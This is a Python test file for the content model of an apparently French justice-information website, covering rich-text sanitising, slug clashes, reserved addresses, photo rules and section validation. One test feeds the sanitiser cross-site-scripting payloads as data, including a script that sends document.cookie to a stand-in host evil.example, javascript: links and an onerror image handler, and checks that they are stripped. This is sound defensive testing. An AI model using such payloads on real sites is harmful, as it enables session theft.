"""The content model: rich text sanitised on save, slug clashes, photo rules, section rules."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, transaction
from PIL import Image

from shared.public_site.constants import PHOTO_MAX_BYTES, PageCategory, SectionKind
from shared.public_site.models import InfoPage, Section, ServicePage
from shared.public_site.richtext import sanitise

from .factories import InfoPageFactory, SectionFactory, ServicePageFactory

pytestmark = pytest.mark.django_db


def _png(size=(40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (0, 0, 145)).save(buffer, format="PNG")
    return buffer.getvalue()


def test_script_tags_and_javascript_links_are_stripped_on_save():
    pasted = (
        '<p onclick="steal()">Venez <strong>à l\'heure</strong>.</p>'
        "<script>document.location='https://evil.example/'+document.cookie</script>"
        '<p><a href="javascript:alert(1)">cliquez</a> ou <a href="https://www.justice.fr/">ici</a></p>'
        '<img src=x onerror="alert(1)"><style>body{display:none}</style>'
    )
    section = SectionFactory(body=pasted)
    section.refresh_from_db()
    assert "<script" not in section.body
    assert "evil.example" not in section.body
    assert "javascript:" not in section.body
    assert "onclick" not in section.body and "onerror" not in section.body
    assert "<img" not in section.body and "<style" not in section.body
    assert "<strong>à l'heure</strong>" in section.body
    assert '<a href="https://www.justice.fr/" rel="noopener noreferrer">ici</a>' in section.body
    # Every rich-text field of every model goes through the same sanitiser.
    service = ServicePageFactory(what_to_bring="<p>Votre convocation<script>x()</script></p>")
    service.refresh_from_db()
    assert service.what_to_bring == "<p>Votre convocation</p>"
    page = InfoPageFactory(intro='<a href="JaVaScRiPt:alert(1)">x</a>')
    page.refresh_from_db()
    assert "alert" not in page.intro


def test_plain_text_typed_in_the_editor_becomes_paragraphs():
    assert sanitise("Première ligne\nsuite\n\nDeuxième ligne") == (
        "<p>Première ligne<br>suite</p><p>Deuxième ligne</p>"
    )
    assert sanitise("Une phrase.\n\nUne autre.") == "<p>Une phrase.</p><p>Une autre.</p>"
    assert sanitise("   ") == ""


def test_a_slug_already_used_is_refused_with_the_other_page_named():
    InfoPageFactory(slug="sursis-probatoire", title="Le sursis probatoire")
    clash = InfoPage(slug="Sursis-Probatoire", title="Autre", category=PageCategory.MEASURE)
    with pytest.raises(ValidationError) as error:
        clash.full_clean()
    assert error.value.message_dict["slug"] == [
        "L'adresse « sursis-probatoire » est déjà celle de la page « Le sursis probatoire »."
    ]
    # The database refuses it too, whatever the path.
    with pytest.raises(IntegrityError), transaction.atomic():
        InfoPage.objects.create(slug="sursis-probatoire", title="x", category="measure")


@pytest.mark.parametrize("slug", ["preparer", "admin", "reinsertion", "stop", "comptes"])
def test_a_page_about_the_site_cannot_take_an_address_of_the_site(slug):
    page = InfoPage(slug=slug, title="Mentions", category=PageCategory.ABOUT)
    with pytest.raises(ValidationError) as error:
        page.full_clean()
    assert error.value.message_dict["slug"] == [
        f"L'adresse « {slug} » est réservée par le site : choisissez-en une autre."
    ]


def test_entry_pages_have_fixed_addresses():
    with pytest.raises(ValidationError) as error:
        InfoPage(slug="bienvenue", title="Accueil", category=PageCategory.HUB).full_clean()
    assert "accueil" in error.value.message_dict["slug"][0]
    InfoPage(slug="accueil", title="Accueil", category=PageCategory.HUB).full_clean()


def test_a_photo_without_its_alternative_text_is_refused():
    service = ServicePageFactory.build(
        photo=SimpleUploadedFile("facade.png", _png(), content_type="image/png"), photo_alt=""
    )
    with pytest.raises(ValidationError) as error:
        service.full_clean()
    assert "texte alternatif" in " ".join(error.value.messages)
    assert ServicePage.objects.count() == 0
    # Not even a save that skips validation gets through: a database constraint.
    with pytest.raises(IntegrityError), transaction.atomic():
        ServicePageFactory(photo="public_site/services/facade.png", photo_alt="")
    service.photo_alt = "La façade du bâtiment, porte vitrée à gauche."
    service.full_clean()


def test_a_photo_over_5_mb_is_refused():
    big = SimpleUploadedFile(
        "big.png", b"\x89PNG" + b"0" * PHOTO_MAX_BYTES, content_type="image/png"
    )
    service = ServicePageFactory.build(photo=big, photo_alt="Façade")
    with pytest.raises(ValidationError) as error:
        service.full_clean()
    assert "5 Mo" in " ".join(error.value.message_dict["photo"])


@pytest.mark.parametrize(
    ("kind", "fields", "missing"),
    [
        (SectionKind.QUESTION, {"heading": "", "body": "<p>x</p>"}, "heading"),
        (SectionKind.LEGAL, {"body": "<p>x</p>", "legal_reference": "Art. 1"}, "legal_text"),
        (SectionKind.LEGAL, {"body": "<p>x</p>", "legal_text": "Texte"}, "legal_reference"),
        (SectionKind.LEGAL, {"legal_text": "Texte", "legal_reference": "Art. 1"}, "body"),
        (SectionKind.TIP, {"body": ""}, "body"),
    ],
)
def test_incomplete_sections_are_refused(kind, fields, missing):
    page = InfoPageFactory()
    section = Section(page=page, kind=kind, **fields)
    with pytest.raises(ValidationError) as error:
        section.full_clean()
    assert missing in error.value.message_dict


def test_consecutive_questions_make_one_accordion_group():
    page = InfoPageFactory()
    SectionFactory(page=page, position=1, kind=SectionKind.TEXT, heading="En bref")
    first = SectionFactory(page=page, position=2)
    second = SectionFactory(page=page, position=3)
    SectionFactory(page=page, position=4, kind=SectionKind.TIP)
    third = SectionFactory(page=page, position=5)
    kinds = [(kind, block) for kind, block in page.blocks()]
    assert [k for k, _ in kinds] == ["text", "questions", "tip", "questions"]
    assert kinds[1][1] == [first, second] and kinds[3][1] == [third]
